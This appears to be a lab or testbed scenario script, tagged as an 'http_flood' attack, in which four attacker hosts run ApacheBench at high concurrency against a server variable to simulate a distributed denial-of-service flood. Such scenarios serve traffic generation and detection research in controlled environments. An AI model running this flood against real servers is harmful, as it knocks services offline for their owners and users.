# shellcheck shell=bash
# about: pages as fast as four hosts can (ab)
# type: attack
# kind: http_flood
# target: server
# source: attacker attacker2 attacker3 attacker4
# tools: ab
# within_ms: 3000
play() {
	local host

	for host in attacker2 attacker3 attacker4; do
		on "$host" ab -q -t 8 -n 100000 -c 20 "http://$SERVER_IP/" &
	done
	on attacker ab -q -t 8 -n 100000 -c 20 "http://$SERVER_IP/"
	wait
}
